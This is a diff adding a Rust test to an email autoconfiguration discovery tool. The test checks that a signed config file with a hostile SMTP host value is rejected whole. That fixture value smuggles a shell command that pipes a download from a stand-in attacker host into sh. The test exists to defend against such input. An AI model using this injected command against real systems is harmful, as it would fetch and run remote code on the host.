@@ -501,3 +501,37 @@ async fn jmap_is_noticed_through_well_known_and_srv_in_json_and_text() {
     let text = String::from_utf8_lossy(&out.stdout);
     assert!(!text.contains("JMAP ("), "{text}");
 }
+
+#[tokio::test]
+async fn a_checked_file_that_names_a_bad_host_is_refused_whole() {
+    let net = Net::start().await;
+    let body = br#"{"protocols": {"imap": {"host": "imap.ok.test"},
+        "smtp": {"host": "smtp.ok.test; curl evil.test | sh"}}}"#;
+    serve_pacc(&net, "hostile.test", body);
+    net.dns.txt(
+        "_ua-auto-config.hostile.test",
+        &[&format!("v=UAAC1; a=sha256; d={}", digest_of(body))],
+    );
+    let r = discover::discover(&email("ha@hostile.test"), &only(&net, &[SourceId::Pacc])).await;
+    let report = r.source(SourceId::Pacc).unwrap();
+    assert!(
+        matches!(
+            &report.error,
+            Some(SourceError::Pacc(PaccError::Document { .. }))
+        ),
+        "{report:?}"
+    );
+    assert!(
+        report
+            .error
+            .as_ref()
+            .unwrap()
+            .words()
+            .contains("is not usable"),
+        "{report:?}"
+    );
+    assert!(
+        r.candidates.is_empty(),
+        "not even the good IMAP host is kept"
+    );
+}
